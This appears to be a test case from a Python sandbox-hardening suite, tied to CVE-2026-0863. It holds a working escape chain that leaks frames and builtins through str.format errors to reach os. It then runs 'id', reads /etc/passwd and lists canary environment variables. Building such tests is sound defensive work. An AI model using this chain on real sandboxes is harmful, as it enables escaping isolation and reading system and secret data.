# /// case
# technique = "frames-and-generators"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2026-0863"
# ///
# A format field that fails raises an `AttributeError` that holds what the field had reached.
def reach(value, path):
    try:
        ("{0." + path + ".nothing}").format(value)
    except AttributeError as error:
        return error.obj

try:
    1 / 0
except ZeroDivisionError as error:
    trace = reach(error, "__traceback__")
frame = reach(trace, "tb_frame")
names = reach(frame, "f_builtins")
found = names["__import__"]("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
